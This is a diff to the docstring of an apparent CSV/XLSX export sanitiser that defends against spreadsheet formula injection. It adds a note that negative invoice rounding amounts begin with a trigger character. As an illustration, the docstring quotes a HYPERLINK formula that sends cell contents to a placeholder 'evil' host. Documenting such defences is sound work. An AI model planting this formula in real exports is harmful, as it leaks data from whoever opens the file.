@@ -3,7 +3,8 @@
 A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return may be run as a formula
 by Excel or LibreOffice when a CSV is opened, e.g. a description ``=HYPERLINK("http://evil/?"&A1)``. Every
 piece of client text written to a CSV or XLSX goes through this module. Numbers are written by the renderers
-themselves from ``Decimal`` values and never start with a trigger (amounts are never negative).
+themselves from ``Decimal`` values: only a negative rounding amount (EN 16931 BT-114) starts with a trigger,
+"-0.03", which spreadsheets read as the number it is; no client text is ever written as a number.
 """
 
 FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
